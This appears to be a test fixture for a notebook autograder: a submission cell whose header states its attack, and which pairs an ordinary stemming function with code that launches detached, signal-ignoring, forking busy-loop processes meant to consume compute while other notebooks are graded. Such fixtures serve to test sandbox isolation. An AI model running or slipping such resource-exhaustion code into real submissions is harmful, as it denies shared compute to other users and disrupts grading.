# ---
# attack: Processes whose parents have ended compute while others' notebooks are graded.
# ---

# %% grade_id="stem"
import subprocess

loop = "import os\nos.fork()\nwhile True:\n    pass"
for _ in range(2):
    subprocess.Popen(
        ["sh", "-c", f"trap '' INT TERM HUP; (python3 -c '{loop}' &) &"], start_new_session=True
    )


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
